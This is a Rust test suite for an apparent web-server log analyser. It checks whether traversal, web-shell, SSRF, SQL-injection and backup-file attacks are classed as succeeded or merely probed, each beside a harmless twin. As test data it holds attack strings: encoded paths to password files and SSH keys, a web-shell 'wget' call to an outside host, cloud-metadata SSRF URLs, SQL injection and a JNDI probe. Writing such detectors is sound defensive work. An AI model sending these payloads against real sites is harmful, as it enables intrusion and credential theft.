//! Whether an attack worked, told from how it was answered, each beside its harmless twin, on quiet and on busy sites.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

#[path = "worked/guesses.rs"]
mod guesses;
#[path = "worked/hands.rs"]
mod hands;
#[path = "worked/site.rs"]
mod site;

use site::{ATTACKER, READERS, Site};

/// Paths that climb, written so that a filter lets them pass.
const CLIMBS: [&str; 4] = [
    "/download?file=%252e%252e%252f%252e%252e%252fsrv%252fpasswords",
    "/download?file=%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron",
    "/download?file=%252e%252e%252f%252e%252e%252fapp%252fprod.yml",
    "/download?file=%252e%252e%252f%252e%252e%252froot%252f.ssh%252fid_rsa",
];

#[test]
fn files_that_were_read_are_told_however_small_they_are() {
    for readers in READERS {
        let mut site = Site::with(readers);
        site.is_asked(&[(CLIMBS[0], 2210), (CLIMBS[1], 1420), (CLIMBS[2], 810), (CLIMBS[3], 2600)]);
        let incident = site.incident();
        assert_eq!(
            (&incident["severity"], &incident["outcome"]),
            (&"high".into(), &"succeeded".into()),
            "{incident}"
        );
        // A page that says no, and repeats what it was asked for.
        let mut site = Site::with(readers);
        site.is_asked(&[(CLIMBS[0], 812), (CLIMBS[1], 830), (CLIMBS[2], 808), (CLIMBS[3], 826)]);
        let is_quiet = |one: &String| !one.contains("succeeded") && !one.starts_with("high");
        assert!(site.loud().iter().all(is_quiet), "{readers} readers: {:?}", site.loud());
    }
}

#[test]
fn a_filter_that_was_slipped_past_is_told_where_hardly_anybody_else_comes() {
    let thumb = |file: &str| format!("/thumbs?path={file}");
    let (plain, hidden) =
        (thumb("../../etc/passwd"), |file: &str| thumb(&format!("%252e%252e%252f%252e%252e%252f{file}")));
    let site = |sizes: [u64; 3]| {
        let mut site = Site::with(60);
        (1..9).for_each(|nth| site.reads(&format!("192.0.0.{nth}"), &thumb("a.png"), 9000 + nth * 500));
        site.asks(ATTACKER, "GET", &plain, 400, 380, "-");
        for (file, size) in
            ["etc%252fpasswd", "app%252fprod.yml", "root%252f.ssh%252fid_rsa"].iter().zip(sizes)
        {
            site.asks(ATTACKER, "GET", &hidden(file), 200, size, "-");
        }
        site
    };
    assert_eq!(site([2711, 5530, 2902]).incident()["outcome"], "succeeded");
    // An empty picture, whatever is asked for.
    assert_eq!(site([2711, 2711, 2711]).loud(), [""; 0]);
}

#[test]
fn a_page_that_runs_what_it_is_told_is_told_and_a_search_for_commands_is_not() {
    let commands: [(&str, u64); 6] = [
        ("whoami", 14),
        ("cat+/etc/passwd", 2210),
        ("ls+-la+/srv/www", 1820),
        ("wget+http://198.51.100.7/x.sh", 31),
        ("netstat+-an", 7710),
        ("uname+-a", 140),
    ];
    for readers in READERS {
        let mut site = Site::with(readers);
        for (command, size) in commands {
            site.is_asked(&[(&format!("/files/2026/.cache.php?cmd={command}"), size)]);
        }
        let incident = site.incident();
        assert_eq!(incident["outcome"], "succeeded", "{incident}");
        let mut site = Site::with(readers);
        for person in 0..40_usize {
            let from = format!("198.51.100.{}", person + 1);
            site.opens_pages(&from);
            for nth in 0..2 {
                let (command, _) = commands[(person + nth) % commands.len()];
                site.reads(&from, &format!("/docs/search?q={command}+%7C+sh"), 4100 + person as u64 * 70);
            }
        }
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
    }
}

#[test]
fn a_page_that_fetches_what_lies_inside_is_told_and_one_that_says_no_is_not() {
    let fetched = |place: &str| format!("/preview?url=http%3A%2F%2F169.254.169.254%2Flatest%2F{place}");
    let site = |sizes: [u64; 3]| {
        let mut site = Site::with(60);
        for (place, size) in ["meta-data%2F", "user-data%2F", "meta-data%2Fiam%2F"].iter().zip(sizes) {
            site.asks(ATTACKER, "GET", &fetched(place), 200, size, "-");
        }
        site
    };
    assert_eq!(site([420, 88, 1410]).incident()["outcome"], "succeeded");
    assert_eq!(site([310, 312, 309]).loud(), [""; 0]);
}

#[test]
fn paths_that_climb_far_enough_are_told_to_have_reached_what_they_name() {
    let climbs = |steps: usize, file: &str| format!("/avatars/4711/{}{file}", "..%2F".repeat(steps));
    let site = |status, sizes: [u64; 3]| {
        let mut site = Site::with(60);
        (1..8).for_each(|steps| site.asks(ATTACKER, "GET", &climbs(steps, "etc%2Fpasswd"), 404, 1510, "-"));
        for (file, size) in ["etc%2Fpasswd", "etc%2Fshadow", "root%2F.ssh%2Fid_rsa"].iter().zip(sizes) {
            site.asks(ATTACKER, "GET", &climbs(8, file), status, size, "-");
        }
        site
    };
    assert_eq!(site(200, [2210, 1020, 9900]).incident()["outcome"], "succeeded");
    assert_ne!(site(404, [1510, 1510, 1510]).incident()["outcome"], "succeeded");
}

#[test]
fn a_script_among_files_that_answers_as_a_program_does_is_told() {
    for readers in READERS {
        let mut site = Site::with(readers);
        for size in [40, 310, 9200, 48_000, 700].into_iter().cycle().take(20) {
            site.asks(ATTACKER, "POST", "/uploads/2026/logo.php", 200, size, "-");
        }
        let incident = site.incident();
        assert_eq!(
            (&incident["severity"], &incident["outcome"]),
            (&"medium".into(), &"probed".into()),
            "{incident}"
        );
        // A program that takes what is uploaded and says thank you, and an administrator's program.
        let mut site = Site::with(readers);
        for size in [40, 310, 9200, 48_000, 700].into_iter().cycle().take(20) {
            site.asks("198.51.100.7", "POST", "/uploads/take.php", 200, 44, "-");
            site.asks("198.51.100.8", "POST", "/admin/ajax.php", 200, size, "-");
            site.asks("198.51.100.9", "POST", "/cache/view.php", 200, size, "https://www.example.com/cache/");
        }
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
    }
}

#[test]
fn a_database_that_says_yes_or_no_is_not_lost_among_searchers() {
    for readers in READERS {
        let mut site = Site::with(readers);
        for person in 0..24 {
            let from = format!("198.51.100.{}", person + 1);
            site.opens_pages(&from);
            for text in ["select+*+from+users", "order+by+rand()+limit+1"] {
                site.reads(&from, &format!("/search?q={text}"), 4100 + person * 90);
            }
        }
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
        for nth in 0..12 {
            let bytes = if nth % 2 == 0 { 5200 } else { 1100 };
            site.is_asked(&[(&format!("/search?q=a%27%20AND%20{nth}%3D{}--%20", nth / 2 * 2), bytes)]);
        }
        let incident = site.incident();
        assert_eq!(
            (&incident["severity"], &incident["outcome"]),
            (&"medium".into(), &"probed".into()),
            "{incident}"
        );
    }
}

#[test]
fn what_many_at_work_are_given_is_no_theft_and_twice_as_much_is() {
    let link = |nth: u64| format!("/search?q=select+*+from+orders+where+id+in+({nth})");
    for readers in READERS {
        let mut site = Site::with(readers);
        for person in 0..8 {
            let from = format!("198.51.100.{}", person + 1);
            (0..20).for_each(|nth| site.reads(&from, &format!("/search?q=word{nth}"), 5000 + nth * 50));
            (0..20).for_each(|nth| site.reads(&from, &link(nth * 10 + person), 20_200));
        }
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
        site.is_asked(&[
            (&link(7), 20_100),
            ("/search?q=x%27%20union%20select%20name%2Cword%20from%20people--", 260_000),
        ]);
        assert_eq!(site.incident()["outcome"], "succeeded");
    }
}

#[test]
fn a_program_that_is_queried_in_sql_is_no_attack_and_the_same_without_a_page_is() {
    let query = |nth: u64| {
        format!(
            "/board/query?rawSql=SELECT+time%2C+value+FROM+metrics+WHERE+host%3D%27web{nth}%27+AND+time+%3E+1"
        )
    };
    for readers in READERS {
        let mut site = Site::with(readers);
        for person in 0..3 {
            let from = format!("198.51.100.{}", person + 1);
            site.opens_pages(&from);
            (0..60).for_each(|nth| site.reads(&from, &query(nth), 4000 + nth * 37 % 2500));
        }
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
        let mut site = Site::with(readers);
        (0..60).for_each(|nth| site.is_asked(&[(&query(nth), 4000 + nth * 37 % 2500)]));
        assert_eq!(site.incident()["severity"], "medium");
    }
}

#[test]
fn what_left_stands_first_and_by_its_name() {
    let mut site = Site::with(600);
    for missing in ["/backup.zip", "/backup.tar.gz", "/site.sql", "/old.zip"] {
        site.asks(ATTACKER, "GET", missing, 404, 1500, "-");
    }
    site.is_asked(&[("/.env.bak", 2120), ("/backup/db.sql.gz", 88_210_300)]);
    let incident = site.incident();
    assert_eq!(incident["outcome"], "exfiltrated");
    assert_eq!(incident["title"], format!("Exposed file against GET /backup/db.sql.gz from {ATTACKER}"));
    assert!(incident["summary"].as_str().unwrap().contains("88.2 MB"), "{incident}");
}

#[test]
fn probes_that_were_answered_are_not_said_to_have_missed() {
    let summary = |status| {
        let mut site = Site::with(600);
        site.asks(ATTACKER, "GET", "/?x=$%7Bjndi:ldap://198.51.100.7/a%7D", status, 9000, "-");
        site.incident()["summary"].as_str().unwrap().to_owned()
    };
    assert_eq!(summary(404), "Single probes of 1 address, 1 request in all; none was answered with 2xx.");
    assert_eq!(
        summary(200),
        "Single probes of 1 address, 1 request in all; 1 got 2xx, and no answer tells that it worked."
    );
}

#[test]
fn a_service_behind_one_path_says_that_it_cannot_be_judged() {
    let missing = |site: &Site| {
        let report = site.report();
        let blind = report["run"]["blind"].as_array().unwrap().clone();
        blind.iter().any(|one| {
            one["missing"] == "request bodies" && one["fix"].as_str().unwrap().contains("POST /graphql")
        })
    };
    let mut site = Site::with(60);
    assert!(!missing(&site));
    (0..600_u64).for_each(|nth| {
        site.asks(&format!("192.0.2.{}", nth % 60 + 1), "POST", "/graphql", 200, 900 + nth, "-");
    });
    assert!(missing(&site));
}

#[test]
fn a_pool_that_tries_everything_on_one_page_is_one_incident_and_a_page_without_results_is_no_answer() {
    let sql = [
        "1%27%20OR%201%3D1--",
        "x%27%20UNION%20SELECT%20NULL--",
        "9%29%20AND%20%28SELECT%203%29%3D4",
        "a%27%3B%20drop%20table%20b--",
    ];
    let others = [
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "%60id%60",
        "%24%28uname%20-a%29",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ];
    for readers in READERS {
        let mut site = Site::with(readers);
        for address in 0..30_usize {
            let from = format!("198.51.100.{}", address + 1);
            for nth in 0..6 {
                let text = if nth % 3 == 2 { others[address % 4] } else { sql[(address + nth) % 4] };
                site.asks(&from, "GET", &format!("/search?q={text}"), 200, 350 + 9 * nth as u64, "-");
            }
        }
        let loud = site.loud();
        assert!(loud.len() == 1 && loud[0].contains("attempted"), "{loud:#?}");
    }
}
